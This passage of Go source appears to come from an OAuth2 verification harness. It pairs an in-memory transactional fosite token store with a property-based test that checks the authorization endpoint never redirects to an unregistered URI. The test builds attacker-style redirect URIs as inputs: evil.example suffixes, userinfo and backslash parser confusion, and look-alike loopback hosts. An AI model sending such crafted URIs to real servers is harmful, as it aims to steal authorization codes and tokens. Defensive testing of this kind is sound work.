// (a SQL store would run it on another connection, outside the transaction). Callers hold s.mu.
func (s *TxStore) noteCtx(ctx context.Context, method string) {
	if s.snp != nil && !s.carries(ctx) {
		s.CtxErrors = append(s.CtxErrors, method+" issued outside the context of the open transaction")
	}
}

func (s *TxStore) Commit(ctx context.Context) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.snp == nil {
		s.TxErrors = append(s.TxErrors, "Commit without open transaction")
		return errors.New("txstore: commit without transaction")
	}
	if !s.carries(ctx) {
		s.TxErrors = append(s.TxErrors, "Commit with a context that does not carry the open transaction")
		return errors.New("txstore: no transaction in context")
	}
	s.snp, s.tok = nil, nil
	return nil
}

func (s *TxStore) Rollback(ctx context.Context) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.snp == nil {
		s.TxErrors = append(s.TxErrors, "Rollback without open transaction")
		return errors.New("txstore: rollback without transaction")
	}
	if !s.carries(ctx) {
		s.TxErrors = append(s.TxErrors, "Rollback with a context that does not carry the open transaction")
		return errors.New("txstore: no transaction in context")
	}
	s.tb = *s.snp
	s.snp, s.tok = nil, nil
	return nil
}

// InTx reports whether a transaction is open.
func (s *TxStore) InTx() bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.snp != nil
}

// Abort discards an open transaction the way a database does when the
// connection is lost (used by crash injection).
func (s *TxStore) Abort() {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.snp != nil {
		s.tb = *s.snp
		s.snp, s.tok = nil, nil
	}
}

// Snapshot returns a printable digest of all code/token tables (keys + flags),
// used by C18 to compare "exactly as before the request".
func (s *TxStore) Snapshot() map[string]string {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := map[string]string{}
	b := func(v bool) string {
		if v {
			return "1"
		}
		return "0"
	}
	for k, v := range s.tb.codes {
		out["code/"+k] = b(v.active) + "/" + v.req.ID
	}
	for k, v := range s.tb.access {
		out["access/"+k] = v.ID
	}
	for k, v := range s.tb.refresh {
		out["refresh/"+k] = b(v.active) + "/" + v.asig + "/" + v.req.ID
	}
	for k, v := range s.tb.oidc {
		out["oidc/"+k] = v.ID
	}
	for k, v := range s.tb.pkce {
		out["pkce/"+k] = v.ID
	}
	for k, v := range s.tb.device {
		out["device/"+k] = b(v.invalidated) + "/" + v.req.ID
	}
	for k := range s.tb.par {
		out["par/"+k] = ""
	}
	return out
}

// ---- client assertion JTIs (client_manager.go contract)

func (s *TxStore) ClientAssertionJWTValid(_ context.Context, jti string) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if exp, ok := s.tb.jti[jti]; ok && exp.After(Now()) {
		return fosite.ErrJTIKnown
	}
	return nil
}

func (s *TxStore) SetClientAssertionJWT(ctx context.Context, jti string, exp time.Time) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.noteCtx(ctx, "SetClientAssertionJWT")
	for j, e := range s.tb.jti {
		if e.Before(Now()) {
			delete(s.tb.jti, j)
		}
	}
	if _, ok := s.tb.jti[jti]; ok {
		return fosite.ErrJTIKnown
	}
	s.tb.jti[jti] = exp
	return nil
}

func (s *TxStore) IsJWTUsed(ctx context.Context, jti string) (bool, error) {
	return s.ClientAssertionJWTValid(ctx, jti) != nil, nil
}

func (s *TxStore) MarkJWTUsedForTime(ctx context.Context, jti string, exp time.Time) error {
	return s.SetClientAssertionJWT(ctx, jti, exp)
}

// ---- authorization codes

func (s *TxStore) CreateAuthorizeCodeSession(ctx context.Context, code string, req fosite.Requester) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.noteCtx(ctx, "CreateAuthorizeCodeSession")
	s.tb.codes[code] = txCode{active: true, req: CloneRequest(req)}
	return nil
}

func (s *TxStore) GetAuthorizeCodeSession(_ context.Context, code string, _ fosite.Session) (fosite.Requester, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	c, ok := s.tb.codes[code]
	if !ok {
		return nil, fosite.ErrNotFound
	}
	if !c.active {
		return s.hydrate(c.req), fosite.ErrInvalidatedAuthorizeCode
	}
	return s.hydrate(c.req), nil
}

func (s *TxStore) InvalidateAuthorizeCodeSession(ctx context.Context, code string) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.noteCtx(ctx, "InvalidateAuthorizeCodeSession")
	c, ok := s.tb.codes[code]
	if !ok {
		return fosite.ErrNotFound
	}
	c.active = false
	s.tb.codes[code] = c
	return nil
}

// ---- access tokens

func (s *TxStore) CreateAccessTokenSession(ctx context.Context, sig string, req fosite.Requester) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.noteCtx(ctx, "CreateAccessTokenSession")
	s.tb.access[sig] = CloneRequest(req)
	return nil
}

func (s *TxStore) GetAccessTokenSession(_ context.Context, sig string, _ fosite.Session) (fosite.Requester, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	r, ok := s.tb.access[sig]
	if !ok {
		return nil, fosite.ErrNotFound
	}
	return s.hydrate(r), nil
}

func (s *TxStore) DeleteAccessTokenSession(ctx context.Context, sig string) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.noteCtx(ctx, "DeleteAccessTokenSession")
	delete(s.tb.access, sig)
	return nil
}

func (s *TxStore) RevokeAccessToken(ctx context.Context, requestID string) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.noteCtx(ctx, "RevokeAccessToken")
	n := 0
	for k, v := range s.tb.access {
		if v.ID == requestID {
			delete(s.tb.access, k)
			n++
		}
	}
	if n == 0 && s.NotFoundOnEmptyRevoke && !s.inRotate {
		return fosite.ErrNotFound
	}
	return nil
}

// PruneExpiredAccessTokens is the store's housekeeping: access-token rows whose own expiry has passed are removed
// (they are inactive anyway). Returns how many rows went.
func (s *TxStore) PruneExpiredAccessTokens(now time.Time) int {
	s.mu.Lock()
	defer s.mu.Unlock()
	n := 0
	for k, v := range s.tb.access {
		if v.Session == nil {
			continue
		}
		if exp := v.Session.GetExpiresAt(fosite.AccessToken); !exp.IsZero() && exp.Before(now) {
			delete(s.tb.access, k)
			n++
		}
	}
	return n
}

// ---- refresh tokens

func (s *TxStore) CreateRefreshTokenSession(ctx context.Context, sig, asig string, req fosite.Requester) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.noteCtx(ctx, "CreateRefreshTokenSession")
	s.tb.refresh[sig] = txRefresh{active: true, asig: asig, req: CloneRequest(req)}
	return nil
}

func (s *TxStore) GetRefreshTokenSession(_ context.Context, sig string, _ fosite.Session) (fosite.Requester, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	r, ok := s.tb.refresh[sig]
	if !ok {
		return nil, fosite.ErrNotFound
	}
	if !r.active {
		return s.hydrate(r.req), fosite.ErrInactiveToken
	}
	return s.hydrate(r.req), nil
}

func (s *TxStore) DeleteRefreshTokenSession(ctx context.Context, sig string) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.noteCtx(ctx, "DeleteRefreshTokenSession")
	delete(s.tb.refresh, sig)
	return nil
}

func (s *TxStore) RevokeRefreshToken(ctx context.Context, requestID string) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.noteCtx(ctx, "RevokeRefreshToken")
	n := 0
	for k, v := range s.tb.refresh {
		if v.req.ID == requestID {
			v.active = false
			s.tb.refresh[k] = v
			n++
		}
	}
	if n == 0 && s.NotFoundOnEmptyRevoke && !s.inRotate {
		return fosite.ErrNotFound
	}
	return nil
}

func (s *TxStore) RotateRefreshToken(ctx context.Context, requestID, _ string) error {
	s.mu.Lock()
	s.inRotate = true
	s.mu.Unlock()
	defer func() { s.mu.Lock(); s.inRotate = false; s.mu.Unlock() }()
	if err := s.RevokeRefreshToken(ctx, requestID); err != nil {
		return err
	}
	return s.RevokeAccessToken(ctx, requestID)
}

// ---- OpenID Connect sessions

func (s *TxStore) CreateOpenIDConnectSession(ctx context.Context, key string, req fosite.Requester) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.noteCtx(ctx, "CreateOpenIDConnectSession")
	s.tb.oidc[key] = CloneRequest(req)
	return nil
}

func (s *TxStore) GetOpenIDConnectSession(_ context.Context, key string, _ fosite.Requester) (fosite.Requester, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	r, ok := s.tb.oidc[key]
	if !ok {
		return nil, fosite.ErrNotFound
	}
	return s.hydrate(r), nil
}

func (s *TxStore) DeleteOpenIDConnectSession(ctx context.Context, key string) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.noteCtx(ctx, "DeleteOpenIDConnectSession")
	delete(s.tb.oidc, key)
	return nil
}

// ---- PKCE

func (s *TxStore) CreatePKCERequestSession(ctx context.Context, sig string, req fosite.Requester) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.noteCtx(ctx, "CreatePKCERequestSession")
	s.tb.pkce[sig] = CloneRequest(req)
	return nil
}

func (s *TxStore) GetPKCERequestSession(_ context.Context, sig string, _ fosite.Session) (fosite.Requester, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	r, ok := s.tb.pkce[sig]
	if !ok {
		return nil, fosite.ErrNotFound
	}
	return s.hydrate(r), nil
}

func (s *TxStore) DeletePKCERequestSession(ctx context.Context, sig string) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.noteCtx(ctx, "DeletePKCERequestSession")
	delete(s.tb.pkce, sig)
	return nil
}

// ---- device authorization

func (s *TxStore) CreateDeviceAuthSession(ctx context.Context, dsig, usig string, req fosite.DeviceRequester) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.noteCtx(ctx, "CreateDeviceAuthSession")
	if _, ok := s.tb.user[usig]; ok {
		return fosite.ErrExistingUserCodeSignature
	}
	s.tb.device[dsig] = txDevice{usig: usig, req: &fosite.DeviceRequest{UserCodeState: req.GetUserCodeState(), Request: *CloneRequest(req)}}
	s.tb.user[usig] = dsig
	return nil
}

func (s *TxStore) GetDeviceCodeSession(_ context.Context, sig string, _ fosite.Session) (fosite.DeviceRequester, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	d, ok := s.tb.device[sig]
	if !ok {
		return nil, fosite.ErrNotFound
	}
	out := &fosite.DeviceRequest{UserCodeState: d.req.UserCodeState, Request: *s.hydrate(&d.req.Request)}
	if d.invalidated {
		return out, fosite.ErrInvalidatedDeviceCode
	}
	return out, nil
}

func (s *TxStore) InvalidateDeviceCodeSession(ctx context.Context, sig string) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.noteCtx(ctx, "InvalidateDeviceCodeSession")
	d, ok := s.tb.device[sig]
	if !ok {
		return fosite.ErrNotFound
	}
	d.invalidated = true
	s.tb.device[sig] = d
	return nil
}

// UserDecision is the integrator side of RFC 8628: look the request up by the
// user-code signature and record the user's decision (granting scopes /
// audience and attaching the session is done by the caller-supplied mutate).
func (s *TxStore) UserDecision(usig string, mutate func(d *fosite.DeviceRequest)) (dsig string, ok bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	dsig, ok = s.tb.user[usig]
	if !ok {
		return "", false
	}
	d := s.tb.device[dsig]
	n := &fosite.DeviceRequest{UserCodeState: d.req.UserCodeState, Request: *CloneRequest(&d.req.Request)}
	mutate(n)
	d.req = n
	s.tb.device[dsig] = d
	return dsig, true
}

// ---- PAR

func (s *TxStore) CreatePARSession(ctx context.Context, uri string, req fosite.AuthorizeRequester) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.noteCtx(ctx, "CreatePARSession")
	s.tb.par[uri] = cloneAuthorize(req)
	return nil
}

func (s *TxStore) GetPARSession(_ context.Context, uri string) (fosite.AuthorizeRequester, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	r, ok := s.tb.par[uri]
	if !ok {
		return nil, fosite.ErrNotFound
	}
	n := cloneAuthorize(r)
	n.Request = *s.hydrate(&r.Request)
	return n, nil
}

func (s *TxStore) DeletePARSession(ctx context.Context, uri string) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.noteCtx(ctx, "DeletePARSession")
	delete(s.tb.par, uri)
	return nil
}

func cloneAuthorize(r fosite.AuthorizeRequester) *fosite.AuthorizeRequest {
	n := &fosite.AuthorizeRequest{
		ResponseTypes:       cloneArgs(r.GetResponseTypes()),
		State:               r.GetState(),
		ResponseMode:        r.GetResponseMode(),
		DefaultResponseMode: r.GetDefaultResponseMode(),
		Request:             *CloneRequest(r),
	}
	if ar, ok := r.(*fosite.AuthorizeRequest); ok {
		n.HandledResponseTypes = cloneArgs(ar.HandledResponseTypes)
	}
	if u := r.GetRedirectURI(); u != nil {
		c := *u
		if u.User != nil {
			uu := *u.User
			c.User = &uu
		}
		n.RedirectURI = &c
	}
	return n
}
