package props

import (
	"context"
	"fmt"
	"net/netip"
	"net/url"
	"sort"
	"strings"
	"testing"

	"github.com/ory/fosite"
	"pgregory.net/rapid"

	"verifharness/h"
)

// C11 — the authorization endpoint never redirects to an unregistered URI.

type uriParts struct {
	Scheme   string
	Userinfo string // without '@'
	Host     string // name, IPv4 literal or [IPv6]
	Port     string // without ':'
	Path     string
	Query    string
	Fragment string
	Opaque   bool // scheme:path form (no authority)
	Exotic   bool // contains characters no sane parser agrees on: only the output rule is asserted
}

func (u uriParts) String() string {
	var b strings.Builder
	b.WriteString(u.Scheme)
	if u.Opaque {
		b.WriteString(":")
	} else {
		b.WriteString("://")
		if u.Userinfo != "" {
			b.WriteString(u.Userinfo + "@")
		}
		b.WriteString(u.Host)
		if u.Port != "" {
			b.WriteString(":" + u.Port)
		}
	}
	b.WriteString(u.Path)
	if u.Query != "" {
		b.WriteString("?" + u.Query)
	}
	if u.Fragment != "" {
		b.WriteString("#" + u.Fragment)
	}
	return b.String()
}

func isLoopbackLiteral(host string) bool {
	hh := strings.TrimSuffix(strings.TrimPrefix(host, "["), "]")
	a, err := netip.ParseAddr(hh)
	if err != nil {
		return false
	}
	return a.IsLoopback() || (a.Is4In6() && a.Unmap().IsLoopback())
}

var c11Schemes = []string{"https", "https", "https", "http", "http", "myapp", "com.example.app"}
var c11Hosts = []string{"rp.example", "rp.example", "sub.rp.example", "localhost", "app.localhost", "127.0.0.1", "127.0.0.1", "127.0.0.2", "[::1]", "10.0.0.1", "[2001:db8::1]",
	// remote hosts that only look local
	"login.localhost.attacker.example", "localhost.attacker.example", "notlocalhost", "127.0.0.1.attacker.example", "127.0.0.1.nip.example"}
var c11Ports = []string{"", "", "", "8080", "443", "3846"}
var c11Paths = []string{"", "/", "/cb", "/cb", "/cb/", "/a/b", "/CB", "/cb.html"}
var c11Queries = []string{"", "", "", "x=1", "x=1&y=2", "r=https%3A%2F%2Fe.example%2F"}

func regURIGen() *rapid.Generator[uriParts] {
	return rapid.Custom(func(t *rapid.T) uriParts {
		u := uriParts{
			Scheme: rapid.SampledFrom(c11Schemes).Draw(t, "scheme"),
			Host:   rapid.SampledFrom(c11Hosts).Draw(t, "host"),
			Port:   rapid.SampledFrom(c11Ports).Draw(t, "port"),
			Path:   rapid.SampledFrom(c11Paths).Draw(t, "path"),
			Query:  rapid.SampledFrom(c11Queries).Draw(t, "query"),
		}
		if u.Scheme == "com.example.app" && rapid.Bool().Draw(t, "opaque") {
			u.Opaque = true
			u.Host, u.Port = "", ""
			if u.Path == "" {
				u.Path = "/oauth"
			}
		}
		return u
	})
}

// qualifies: C11 statement, first sentence, applied to a requested URI.
func qualifies(req uriParts, reqStr string, registered []uriParts) (h.Tri, string) {
	for _, r := range registered {
		if r.String() == reqStr {
			if req.Fragment != "" {
				return h.No, "fragment"
			}
			return h.Yes, "string-identical"
		}
	}
	if req.Exotic {
		return h.Unspecified, "exotic"
	}
	if req.Opaque || req.Fragment != "" {
		return h.No, "no match"
	}
	if !isLoopbackLiteral(req.Host) {
		return h.No, "no match"
	}
	if req.Scheme != "http" {
		if strings.EqualFold(req.Scheme, "http") {
			return h.Unspecified, "scheme case"
		}
		return h.No, "no match"
	}
	res := h.No
	for _, r := range registered {
		if r.Opaque {
			continue
		}
		if r.Host == req.Host && r.Query == req.Query {
			if r.Path == req.Path {
				return h.Yes, "loopback"
			}
			if strings.Contains(req.Path, "%") || strings.Contains(r.Path, "%") {
				res = h.Unspecified
			}
		} else if strings.EqualFold(r.Host, req.Host) && r.Query == req.Query && r.Path == req.Path {
			res = h.Unspecified
		}
	}
	return res, "loopback"
}

// targetOK: the first sentence applied to the *output*: base of the redirect
// target (response parameters removed) against the registered set.
func targetOK(target string, mode string, registered []uriParts) (bool, string) {
	base := target
	frag := ""
	if i := strings.IndexByte(base, '#'); i >= 0 {
		frag = base[i+1:]
		base = base[:i]
	}
	q := ""
	if i := strings.IndexByte(base, '?'); i >= 0 {
		q = base[i+1:]
		base = base[:i]
	}
	if mode != "fragment" && frag != "" {
		return false, "target has a fragment of its own"
	}
	// query: registered query (decoded multiset) plus, in query mode, response parameters
	responseKeys := map[string]bool{"code": true, "state": true, "scope": true, "error": true, "error_description": true, "error_hint": true, "error_debug": true, "access_token": true, "id_token": true, "token_type": true, "expires_in": true}
	tq, err := url.ParseQuery(q)
	if err != nil {
		return false, "target query does not parse: " + err.Error()
	}
	norm := func(v url.Values, dropResponse bool) string {
		var l []string
		for k, vs := range v {
			if dropResponse && responseKeys[k] {
				continue
			}
			for _, x := range vs {
				l = append(l, k+"="+x)
			}
		}
		sort.Strings(l)
		return strings.Join(l, "&")
	}
	tu, perr := url.Parse(target)
	for _, r := range registered {
		rs := r.String()
		rbase := rs
		rq := ""
		if i := strings.IndexByte(rbase, '?'); i >= 0 {
			rq = rbase[i+1:]
			rbase = rbase[:i]
		}
		rqv, _ := url.ParseQuery(rq)
		queryEqual := q == rq || norm(tq, mode == "query") == norm(rqv, false)
		if base == rbase && queryEqual {
			return true, ""
		}
		// loopback rule
		if perr == nil && tu.Scheme == "http" && isLoopbackLiteral(tu.Hostname()) && !r.Opaque {
			rh := strings.TrimSuffix(strings.TrimPrefix(r.Host, "["), "]")
			if tu.Hostname() == rh && tu.Path == mustUnescape(r.Path) && queryEqual {
				return true, ""
			}
		}
	}
	if !strings.Contains(base, ":") || strings.HasPrefix(base, "/") {
		return false, "target is not absolute"
	}
	return false, "target matches no registered URI"
}

func mustUnescape(p string) string {
	if u, err := url.PathUnescape(p); err == nil {
		return u
	}
	return p
}

func TestC11_RedirectTargets(t *testing.T) {
	h.SetProperty("C11")
	selfTest(t)
	rapid.Check(t, func(rt *rapid.T) {
		h.ClockReset()
		// "... unless configured otherwise": the operator's transport-security rule for code issuance and PAR
		checker := rapid.SampledFrom([]string{"default", "default", "strict", "permissive"}).Draw(rt, "redirectSecureChecker")
		w := h.NewWorld(h.Spec{RefreshScopes: []string{}, Mutate: func(c *fosite.Config) {
			switch checker {
			case "strict":
				c.RedirectSecureChecker = fosite.IsRedirectURISecureStrict
			case "permissive":
				c.RedirectSecureChecker = func(context.Context, *url.URL) bool { return true }
			}
		}})
		h.Label("checker=" + checker)
		// reference for the configured rule (documented on IsRedirectURISecure / IsRedirectURISecureStrict)
		insecure := func(raw string) bool {
			tu, err := url.Parse(raw)
			if err != nil {
				return false
			}
			hn := tu.Hostname()
			local := hn == "localhost" || strings.HasSuffix(hn, ".localhost") || isLoopbackLiteral(hn)
			switch checker {
			case "permissive":
				return false
			case "strict":
				return !(tu.Scheme == "https" || (tu.Scheme == "http" && local))
			}
			return tu.Scheme == "http" && !local
		}
		nreg := rapid.IntRange(1, 4).Draw(rt, "nRegistered")
		var reg []uriParts
		var regStr []string
		for i := 0; i < nreg; i++ {
			u := regURIGen().Draw(rt, "registered")
			reg = append(reg, u)
			regStr = append(regStr, u.String())
		}
		cl := stdClient("c11", false)
		cl.Secret = w.HashSecret("s")
		cl.RedirectURIs = regStr
		cl.ResponseModes = []fosite.ResponseModeType{fosite.ResponseModeQuery, fosite.ResponseModeFragment, fosite.ResponseModeFormPost}
		w.AddClient(cl, "s")
		// a second client with redirect URIs of its own
		cl2 := stdClient("c11b", false)
		cl2.Secret = w.HashSecret("s2")
		cl2.RedirectURIs = []string{"https://second-rp.example/cb", "http://127.0.0.1/second"}
		cl2.ResponseModes = cl.ResponseModes
		w.AddClient(cl2, "s2")

		// requested: named near-miss edits of a registered URI
		base := reg[rapid.IntRange(0, nreg-1).Draw(rt, "base")]
		req := base
		edits := []string{}
		ne := rapid.SampledFrom([]int{0, 1, 1, 1, 2}).Draw(rt, "nEdits")
		raw := ""
		useRaw := false
		for i := 0; i < ne; i++ {
			e := rapid.SampledFrom([]string{"scheme-case", "host-case", "trailing-slash", "port", "host-suffix", "host-prefix", "localhost-swap", "loopback-other", "userinfo", "userinfo-confusion", "path-append", "path-dotdot", "path-case", "path-encode", "query-add", "query-reorder", "query-drop", "fragment", "scheme-swap", "relative", "scheme-relative", "empty", "backslash", "whitespace", "ipv6-loopback", "ipv4-mapped", "other-registered"}).Draw(rt, "edit")
			edits = append(edits, e)
			switch e {
			case "scheme-case":
				req.Scheme = strings.ToUpper(req.Scheme)
			case "host-case":
				req.Host = strings.ToUpper(req.Host)
			case "trailing-slash":
				if strings.HasSuffix(req.Path, "/") {
					req.Path = strings.TrimSuffix(req.Path, "/")
				} else {
					req.Path += "/"
				}
			case "port":
				req.Port = rapid.SampledFrom([]string{"", "1", "8081", "65535", "80"}).Draw(rt, "newPort")
			case "host-suffix":
				req.Host += rapid.SampledFrom([]string{".evil.example", "evil", ".", ".localhost"}).Draw(rt, "suffix")
			case "host-prefix":
				req.Host = rapid.SampledFrom([]string{"evil-", "evil.", "127.0.0.1."}).Draw(rt, "prefix") + req.Host
			case "localhost-swap":
				if req.Host == "localhost" {
					req.Host = "127.0.0.1"
				} else {
					req.Host = "localhost"
				}
			case "loopback-other":
				req.Host = rapid.SampledFrom([]string{"127.0.0.1", "127.0.0.2", "127.1.2.3", "[::1]", "0.0.0.0", "10.0.0.1"}).Draw(rt, "loop")
				if rapid.Bool().Draw(rt, "asHTTP") {
					req.Scheme = "http"
				}
			case "userinfo":
				req.Userinfo = rapid.SampledFrom([]string{"user", "user:pw", "rp.example"}).Draw(rt, "userinfo")
			case "userinfo-confusion":
				// registered host becomes userinfo, the real host is the attacker's
				req.Userinfo = req.Host
				req.Host = "evil.example"
			case "path-append":
				req.Path += rapid.SampledFrom([]string{"x", "/x", ".evil", ";p=1"}).Draw(rt, "pathSuffix")
			case "path-dotdot":
				req.Path += "/../other"
			case "path-case":
				req.Path = strings.ToUpper(req.Path)
			case "path-encode":
				if len(req.Path) > 1 {
					req.Path = req.Path[:1] + fmt.Sprintf("%%%02X", req.Path[1]) + req.Path[2:]
				} else {
					req.Path += "%2F"
				}
			case "query-add":
				if req.Query == "" {
					req.Query = "evil=1"
				} else {
					req.Query += "&evil=1"
				}
			case "query-reorder":
				p := strings.Split(req.Query, "&")
				for l, r := 0, len(p)-1; l < r; l, r = l+1, r-1 {
					p[l], p[r] = p[r], p[l]
				}
				req.Query = strings.Join(p, "&")
			case "query-drop":
				req.Query = ""
			case "fragment":
				req.Fragment = rapid.SampledFrom([]string{"frag", "access_token=x", "a=b"}).Draw(rt, "frag")
			case "scheme-swap":
				if req.Scheme == "https" {
					req.Scheme = "http"
				} else {
					req.Scheme = "https"
				}
			case "relative":
				useRaw, raw = true, req.Path+"?"+req.Query
				req.Exotic = true
			case "scheme-relative":
				useRaw, raw = true, "//"+req.Host+req.Path
				req.Exotic = true
			case "empty":
				useRaw, raw = true, ""
			case "backslash":
				useRaw, raw = true, req.Scheme+"://"+req.Host+"\\@evil.example"+req.Path
				req.Exotic = true
			case "whitespace":
				useRaw, raw = true, req.String()+rapid.SampledFrom([]string{" ", "\t", "\n", "%20", "\x00"}).Draw(rt, "ws")
				req.Exotic = true
			case "ipv6-loopback":
				req.Host = rapid.SampledFrom([]string{"[::1]", "[0:0:0:0:0:0:0:1]", "[::0001]"}).Draw(rt, "v6")
				req.Scheme = "http"
			case "ipv4-mapped":
				req.Host = "[::ffff:127.0.0.1]"
				req.Scheme = "http"
			case "other-registered":
				req = reg[rapid.IntRange(0, nreg-1).Draw(rt, "otherReg")]
			}
		}
		reqStr := req.String()
		if useRaw {
			reqStr = raw
		}
		sent := !(useRaw && raw == "")
		// response type / mode / injected errors
		rtype := rapid.SampledFrom([]string{"code", "code", "token", "id_token token", "code id_token", "code token"}).Draw(rt, "response_type")
		mode := rapid.SampledFrom([]string{"", "", "query", "fragment", "form_post"}).Draw(rt, "response_mode")
		inject := rapid.SampledFrom([]string{"none", "none", "none", "unknown-client", "bad-scope", "short-state", "unsupported-response-type", "bad-response-mode", "bad-audience", "consent-denied"}).Draw(rt, "inject")
		q := url.Values{"client_id": {"c11"}, "response_type": {rtype}, "state": {"state-0123456789"}, "nonce": {"nonce-0123456789"}, "scope": {"a"}}
		if strings.Contains(rtype, "id_token") {
			q.Set("scope", "openid a")
		}
		if sent {
			q.Set("redirect_uri", reqStr)
		}
		if mode != "" {
			q.Set("response_mode", mode)
		}
		switch inject {
		case "unknown-client":
			q.Set("client_id", "nobody")
		case "bad-scope":
			q.Set("scope", q.Get("scope")+" not-registered")
		case "short-state":
			q.Set("state", "x")
		case "unsupported-response-type":
			q.Set("response_type", "code foo")
		case "bad-response-mode":
			q.Set("response_mode", "web_message")
		case "bad-audience":
			q.Set("audience", "https://nobody.example")
		}
		// history: an exactly registered target may have been used successfully just before (a remembered match must
		// not vouch for the next request)
		if rapid.IntRange(0, 3).Draw(rt, "validRequestFirst") == 0 {
			wq := url.Values{"client_id": {"c11"}, "response_type": {"code"}, "state": {"state-0123456789"}, "nonce": {"nonce-0123456789"}, "scope": {"a"}, "redirect_uri": {regStr[rapid.IntRange(0, nreg-1).Draw(rt, "warmWith")]}}
			// ... possibly while the operator's transport rule was a different one (configuration is read per request:
			// a rule in force for an earlier request says nothing about this one)
			ruleThen := rapid.SampledFrom([]string{"same", "same", "permissive", "strict", "default"}).Draw(rt, "ruleDuringEarlierRequest")
			now := w.Cfg.RedirectSecureChecker
			switch ruleThen {
			case "permissive":
				w.Cfg.RedirectSecureChecker = func(context.Context, *url.URL) bool { return true }
			case "strict":
				w.Cfg.RedirectSecureChecker = fosite.IsRedirectURISecureStrict
			case "default":
				w.Cfg.RedirectSecureChecker = nil
			}
			w.Authorize(wq, h.Consent{})
			w.Cfg.RedirectSecureChecker = now
			h.Label("valid-request-first")
			if ruleThen != "same" && ruleThen != checker {
				h.Label("transport-rule-changed-since-earlier-request")
			}
		}
		var res *h.AuthzResult
		if inject == "consent-denied" {
			// the integrator reports the user's refusal through WriteAuthorizeError
			res = authorizeDenied(w, q)
		} else {
			res = w.Authorize(q, h.Consent{})
		}
		redirected := res.Location != "" || res.Mode == "form_post"
		target := res.Location
		if res.Mode == "form_post" {
			target = res.FormURL
		}
		effMode := res.Mode
		qual, why := h.No, "missing with several registered"
		if sent {
			qual, why = qualifies(req, reqStr, reg)
		} else if nreg == 1 {
			qual, why = h.Yes, "single registered"
			if reg[0].Fragment != "" {
				qual = h.No
			}
		}
		desc := fmt.Sprintf("registered=%q requested=%q (sent=%v edits=%v) type=%q mode=%q inject=%s -> err=%v status=%d mode=%s target=%q | reference: qualifies=%v (%s)", regStr, reqStr, sent, edits, rtype, mode, inject, res.Err, res.Status, res.Mode, target, qual, why)
		rt.Logf("%s", desc)
		nearMiss := sent && qual != h.Yes || (inject != "none" && inject != "unknown-client")
		h.Case(fmt.Sprintf("C11/%v/%s/%s/%s/%v/%v", edits, rtype, mode, inject, qual, redirected), nearMiss, func() any {
			return map[string]any{"registered": regStr, "requested": reqStr, "edits": edits, "response_type": rtype, "response_mode": mode, "injected_error": inject, "qualifies": qual.String(), "redirected": redirected, "target": target}
		})
		for _, e := range edits {
			h.Label("edit=" + e)
		}
		h.Label("inject=" + inject)
		if redirected {
			h.Label("redirected")
			if why == "loopback" && qual == h.Yes {
				h.Label("redirected-to-loopback-variant")
			}
		}
		if redirected && res.Mode == "form_post" && target == "#ZgotmplZ" {
			// html/template refuses to emit a non-http(s) URL into the action attribute: an inert page, no foreign target
			h.Label("form_post-inert-for-custom-scheme")
			return
		}
		if redirected {
			ok, reason := targetOK(target, effMode, reg)
			if !ok {
				h.Violate(rt, "C11/redirect-to-unregistered-target", "%s: %s", reason, desc)
			}
			if qual == h.No {
				h.Violate(rt, "C11/redirected-although-request-does-not-qualify", "%s", desc)
			}
			if inject == "unknown-client" {
				h.Violate(rt, "C11/redirect-for-unknown-client", "%s", desc)
			}
		} else if qual == h.Yes && inject == "none" && res.Err.OK() {
			// accepted without redirect and without form: impossible
			h.Violate(rt, "C11/success-without-redirect", "%s", desc)
		}
		// plain http only on loopback / localhost for the code flow
		if redirected && res.Code != "" && rtype == "code" {
			if insecure(target) {
				h.Violate(rt, "C11/code-to-plain-http", "authorization code delivered to a target the configured transport rule (%s) rejects: %s", checker, desc)
			}
		}
		// ... and the configured rule, not the built-in one, is what decides
		if checker == "permissive" && rtype == "code" && inject == "none" && qual == h.Yes && res.Code == "" && strings.Contains(strings.ToLower(res.Err.Hint), "insecure") {
			h.Violate(rt, "C11/configured-transport-rule-ignored", "the operator's rule accepts every target, but the request was refused as insecure: %s", desc)
		}
		// the same request through PAR
		if inject == "none" && rapid.IntRange(0, 2).Draw(rt, "viaPAR") == 0 {
			f := url.Values{}
			for k, v := range q {
				f[k] = v
			}
			pushOmits := false
			if nreg == 1 && !strings.Contains(q.Get("scope"), "openid") && rapid.Bool().Draw(rt, "pushOmitsRedirect") {
				// exactly one registered URI: the push may leave redirect_uri out
				f.Del("redirect_uri")
				pushOmits = true
				h.Label("par-push-without-redirect_uri")
			}
			pr := w.PAR(f, w.BasicFor("c11"))
			if checker == "permissive" && pr.RequestURI == "" && qual == h.Yes && strings.Contains(strings.ToLower(pr.Err.Hint), "insecure") {
				h.Violate(rt, "C11/configured-transport-rule-ignored", "the operator's rule accepts every target, but the push was refused as insecure: %s", desc)
			}
			if pr.RequestURI != "" {
				if qual == h.No && !pushOmits {
